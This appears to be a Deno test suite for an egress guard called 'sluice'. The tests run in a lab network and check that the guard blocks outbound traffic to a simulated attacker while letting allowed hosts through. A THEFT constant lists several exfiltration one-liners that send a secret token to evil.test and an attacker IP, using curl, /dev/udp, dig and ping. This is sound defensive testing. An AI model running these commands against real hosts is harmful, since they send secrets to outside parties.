import assert from "node:assert/strict";
import type { ConnectionEvent } from "../../agent/record/event.ts";
import { LabProcess } from "../lab/command.ts";
import { Lab, trustEnvironment } from "../lab/lab.ts";
import { ADDRESSES } from "../lab/topology.ts";
import { RUN_TIMEOUT_MS, sluiceArgs } from "./cell.ts";
import { assertGone, footprint, withoutJournals } from "./leftovers.ts";
import {
  eventsOf,
  runGuarded,
  sendLine,
  startRun,
  stateOf,
} from "./lab_run.ts";

const ATTACKER = ADDRESSES.attacker.ipv4;
const SECRET = "token-2c9f41";

/** What a compromised dependency would try, one line for `bash` each. */
const THEFT = [
  `curl -sS -m 8 -d ${SECRET} http://evil.test/`,
  `curl -sS -m 8 -d ${SECRET} http://${ATTACKER}/`,
  `curl -sSk -m 8 -d ${SECRET} https://${ATTACKER}/`,
  `curl -sS -m 8 -d ${SECRET} "http://[${ADDRESSES.attacker.ipv6}]/"`,
  `printf ${SECRET} > /dev/udp/${ATTACKER}/53`,
  `dig +tries=1 +time=2 @${ATTACKER} ${SECRET}.test`,
  `ping -c 1 -W 1 -p 2c9f41 ${ATTACKER}`,
].join("\n");

Deno.test("sluice run keeps a secret in, lets the allowed out and leaves others alone", async () => {
  await using lab = await Lab.up();
  const before = await footprintOf(lab);
  // Without a guard every way arrives.
  await using bare = await lab.capture(`host ${ATTACKER} or icmp`);
  await lab.in("run", ["bash", "-c", THEFT], { timeoutMs: 30_000 });
  await lab.attacker.waitFor(SECRET);
  assert.ok((await bare.stop()).some(({ protocol }) => protocol === "icmp"));

  await using capture = await lab.capture(
    `(host ${ATTACKER} or host ${ADDRESSES.attacker.ipv6}) and not tcp port 4444`,
  );
  const contacts = (await lab.attacker.contacts()).length;
  const script = `curl -sS https://allowed.test/
    ${THEFT}
    echo ready; until [ -e go ]; do sleep 0.05; done
    ${THEFT}
    curl -sS https://allowed.test/`;
  await using sluice = await startRun(lab, {
    command: ["bash", "-c", script],
    allow: ["allowed.test"],
  });
  await sluice.waitFor("ready");
  // While the command is alive and refused, its neighbour is not.
  await lab.in("run", ["bash", "-c", sendLine("outsider-a")]);
  await lab.attacker.waitFor("outsider-a");
  await Deno.writeTextFile(`${lab.directory}/go`, "");
  const { code, stdout, stderr } = await sluice.finished(RUN_TIMEOUT_MS);
  await lab.in("run", ["bash", "-c", sendLine("outsider-b")]);
  await lab.attacker.waitFor("outsider-b");

  assert.equal(code, 0, stderr);
  assert.equal(stdout.match(/^site allowed\.test /gm)?.length, 2, stderr);
  assert.deepEqual(await capture.stop(), []);
  const received = (await lab.attacker.contacts()).slice(contacts)
    .map(({ bytes }) => bytes).join("");
  assert.equal(received, "outsider-aoutsider-b");
  await assertGone(sluice.pid);
  assert.equal(await footprintOf(lab), before);
});

Deno.test("sluice run lets a secret out in audit and says so", async () => {
  await using lab = await Lab.up();
  const { code, stderr } = await runGuarded(lab, {
    command: ["bash", "-c", THEFT],
    egress: "audit",
  });
  await lab.attacker.waitFor(SECRET);
  assert.equal(code, 0);
  assert.match(stderr, /^sluice \(audit\): \d+ endpoints/m);
  assert.match(stderr, /^evil\.test +.*curl +\d+ +would refuse$/m);
  assert.doesNotMatch(stderr, /^Refused/m);
});

Deno.test("sluice run refuses at once, by a reset and by a name error", async () => {
  await using lab = await Lab.up();
  const script = `
    TIMEFORMAT=%3R
    time curl -sS -m 8 http://evil.test/
    time curl -sS -m 8 http://${ATTACKER}/
    time curl -sS -m 8 "http://[${ADDRESSES.attacker.ipv6}]/"
    time dig +tries=1 +time=5 evil.test | grep -c NXDOMAIN
    time printf x > /dev/udp/${ATTACKER}/9`;
  const { stderr, stdout } = await runGuarded(lab, ["bash", "-c", script]);
  const seconds = [...stderr.matchAll(/^(\d+\.\d{3})$/gm)].map(([s]) => s);
  console.log(`refused after ${seconds.join(", ")} s`);
  assert.equal(seconds.length, 5, stderr);
  for (const second of seconds) assert.ok(Number(second) < 1, stderr);
  assert.equal(stdout, "1\n");
  assert.match(stderr, /Could not resolve host: evil\.test/);
  assert.match(stderr, /Failed to connect to 203\.0\.113\.66/);
});

Deno.test("sluice run names the process that was refused, the grandchild's own", async () => {
  await using lab = await Lab.up();
  const script =
    `bash -c '(exec -a renamed curl -sS http://${ATTACKER}/x --max-time 4) & echo $!; wait'; true`;
  const result = await runGuarded(lab, ["bash", "-c", script]);
  const [refused] = (await eventsOf(lab, result)).filter((event) =>
    event.kind === "connection"
  ) as ConnectionEvent[];
  assert.equal(refused?.process?.pid, Number(result.stdout.trim()));
  assert.equal(refused?.process?.exe, "/usr/bin/curl");
  assert.deepEqual(refused?.process?.args, [
    ...["renamed", "-sS", `http://${ATTACKER}/x`, "--max-time", "4"],
  ]);
  assert.equal(refused?.process?.uid, 0);
  const pid = result.stdout.trim();
  assert.ok(
    result.stderr.includes(
      `by /usr/bin/curl (pid ${pid}): renamed -sS http://${ATTACKER}/x`,
    ),
    result.stderr,
  );
});

Deno.test("two sluice runs at the same time do not disturb each other", async () => {
  await using lab = await Lab.up();
  const script = `for i in $(seq 15); do
      curl -sS -o /dev/null -w '%{http_code} ' https://$0/ || exit 1
      curl -sS -m 8 -o /dev/null https://$1/ 2>&1 && exit 2
    done >&2; echo fine`;
  const sites = ["allowed.test", "other.test"];
  const results = await Promise.all(
    sites.map((own, index) =>
      runGuarded(lab, {
        command: ["bash", "-c", script, own, sites[1 - index]!],
        allow: [own],
      })
    ),
  );
  for (const [index, { code, stdout, stderr }] of results.entries()) {
    assert.equal(code, 0, stderr);
    assert.equal(stdout, "fine\n", stderr);
    assert.match(
      stderr,
      /^sluice \(block\): 2 endpoints: 1 refused, 1 allowed/m,
    );
    const others = new RegExp(`^${sites[1 - index]} .*refused$`, "m");
    assert.match(stderr, others);
  }
  // Who came second found the first one's tables and leaves them, empty.
  const rules = await footprintOf(lab);
  assert.doesNotMatch(rules, /SLUICE|^-A|^ *\d/m);
});

Deno.test("sluice run --netns guards a command inside a network namespace", async () => {
  await using lab = await Lab.up();
  const script = `ip -br addr show eth0
    curl -sS --resolve allowed.test:443:203.0.113.10 https://allowed.test/
    curl -sS -m 8 http://${ATTACKER}/`;
  const { code, stdout, stderr } = await runFromOutside(lab, script);
  assert.equal(code, 7, stderr);
  assert.match(stdout, /198\.51\.100\.10/);
  assert.match(stdout, /^site allowed\.test 203\.0\.113\.10 443$/m);
  assert.match(stderr, /203\.0\.113\.66:80, 1 time/);
});

async function runFromOutside(lab: Lab, script: string) {
  await using sluice = new LabProcess([
    ...sluiceArgs(),
    ...["run", "--netns", lab.netnsPath("run"), "--state", stateOf(lab)],
    ...["--egress", "block", "--allow", "203.0.113.10:443"],
    ...["--", "bash", "-c", script],
  ], {
    env: { ...trustEnvironment(lab.directory), SLUICE_CWD: lab.directory },
  });
  return await sluice.finished(RUN_TIMEOUT_MS);
}

/** Journals stay where they are said to be. */
async function footprintOf(lab: Lab): Promise<string> {
  const all = await footprint((args) => lab.in("run", args), stateOf(lab));
  return withoutJournals(all);
}
